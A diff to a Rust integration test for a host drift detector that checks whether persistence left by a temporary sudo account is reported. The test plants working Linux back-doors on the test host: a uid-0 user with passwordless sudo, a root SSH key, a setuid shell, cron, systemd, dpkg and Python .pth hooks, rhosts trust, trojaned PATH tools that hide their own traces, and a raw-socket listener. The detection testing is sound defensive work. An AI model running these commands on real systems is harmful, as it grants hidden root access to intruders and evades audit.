@@ -127,7 +127,12 @@ fn persistence_planted_by_a_root_level_account_is_reported_by_path() {
     assert_eq!(report["drift"]["status"], "no drift detected", "{report}");
     assert!(persistence(&report["drift"]).is_empty(), "{report}");
 
-    // The vendor, as the temporary account, leaves back-doors of several kinds behind.
+    // The vendor, as the temporary account, leaves back-doors of several kinds behind (from the
+    // lists of Linux persistence techniques), each named `evil` where it can be.
+    let planted_key = format!(
+        "{} evil@handover-test",
+        planted_key.rsplit_once(' ').expect("key comment").0
+    );
     as_account_with_sudo(
         &host,
         &account,
@@ -135,15 +140,33 @@ fn persistence_planted_by_a_root_level_account_is_reported_by_path() {
         &format!(
             "set -e
 printf '%s\\n' '{planted_key}' >> /root/.ssh/authorized_keys
-echo '* * * * * root /bin/true' > /etc/cron.d/handover-test-job
-useradd -o -u 0 -g 0 -M -s /bin/bash toor
-echo 'toor ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/toor
-chmod 0440 /etc/sudoers.d/toor
-printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/handover-test.service
-cp /bin/bash /var/tmp/.sh
-chmod 4755 /var/tmp/.sh
+echo '* * * * * root /bin/true' > /etc/cron.d/evil-job
+useradd -o -u 0 -g 0 -M -s /bin/bash evil
+echo 'evil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/evil
+chmod 0440 /etc/sudoers.d/evil
+printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/evil.service
+cp /bin/bash /var/tmp/.evil
+chmod 4755 /var/tmp/.evil
+echo 'f /run/evil 0644 root root - x' > /etc/tmpfiles.d/evil.conf
+echo 'post-invoke=/bin/true evil' > /etc/dpkg/dpkg.cfg.d/evil
+mkdir -p /usr/lib/python3/dist-packages
+echo 'import os; os.system(\"true evil\")' > /usr/lib/python3/dist-packages/evil.pth
+echo '+ +' > /etc/hosts.equiv
+echo '+ +' > /root/.rhosts
+cp /bin/true /usr/sbin/nologin
+# Last: tools ahead of the system's on root's PATH that hide every line naming `evil`.
+for t in sed find awk sort sha256sum stat; do
+  printf '#!/bin/bash\\n/bin/%s \"$@\" | /bin/grep -a -v evil\\nexit ${{PIPESTATUS[0]}}\\n' $t > /usr/local/bin/$t
+  chmod 755 /usr/local/bin/$t
+done
 "
         ),
+    );
+    // A raw-socket listener (as BPFDoor uses: it sees packets before the firewall), started
+    // outside the account's session so that teardown's ending of its processes leaves it.
+    host.sh(
+        "setsid perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 255) or die $!; $0 = \"evil-listener\"; sleep 3600' \
+         </dev/null >/dev/null 2>&1 &",
     );
     // And leaves files of its own outside the CMS directory, one of them setuid.
     let out = host.ssh_as(
@@ -159,10 +182,18 @@ chmod 4755 /var/tmp/.sh
 
     let planted = [
         "/root/.ssh/authorized_keys",
-        "/etc/cron.d/handover-test-job",
-        "/etc/sudoers.d/toor",
-        "/etc/systemd/system/handover-test.service",
-        "/var/tmp/.sh",
+        "/etc/cron.d/evil-job",
+        "/etc/sudoers.d/evil",
+        "/etc/systemd/system/evil.service",
+        "/var/tmp/.evil",
+        "/etc/tmpfiles.d/evil.conf",
+        "/etc/dpkg/dpkg.cfg.d/evil",
+        "/usr/lib/python3/dist-packages/evil.pth",
+        "/etc/hosts.equiv",
+        "/root/.rhosts",
+        "/usr/sbin/nologin",
+        "/usr/local/bin/sed",
+        "/usr/local/bin/sha256sum",
     ];
     let check = |drift: &serde_json::Value| {
         let items = persistence(drift);
@@ -175,20 +206,32 @@ chmod 4755 /var/tmp/.sh
         assert!(
             items
                 .iter()
-                .any(|(p, t)| p == "/etc/passwd" && t.contains("`toor` uid 0")),
+                .any(|(p, t)| p == "/etc/passwd" && t.contains("`evil` uid 0")),
             "the uid-0 account is not reported: {items:#?}"
         );
         assert!(
             items.iter().any(|(_, t)| t.contains("1 key added")
                 && t.contains(&planted_fingerprint)
-                && t.contains("handover-test")),
+                && t.contains("evil@handover-test")),
             "the planted key is not named: {items:#?}"
         );
         assert!(
             items
                 .iter()
-                .any(|(_, t)| t.contains("setuid") && t.contains("/var/tmp/.sh")),
+                .any(|(_, t)| t.contains("setuid") && t.contains("/var/tmp/.evil")),
             "{items:#?}"
+        );
+        assert!(
+            items
+                .iter()
+                .any(|(p, t)| p == "/usr/sbin/nologin" && t.contains("system executable")),
+            "{items:#?}"
+        );
+        assert!(
+            items
+                .iter()
+                .any(|(p, t)| p == "raw 0.0.0.0:255" && t.contains("evil-listener")),
+            "the raw-socket listener is not reported: {items:#?}"
         );
         assert_eq!(drift["status"], "drift detected");
     };
@@ -243,7 +286,7 @@ chmod 4755 /var/tmp/.sh
         .run()
         .expect_code(3);
     assert!(
-        out.stdout.contains("/etc/cron.d/handover-test-job"),
+        out.stdout.contains("/etc/cron.d/evil-job"),
         "{}",
         out.stdout
     );
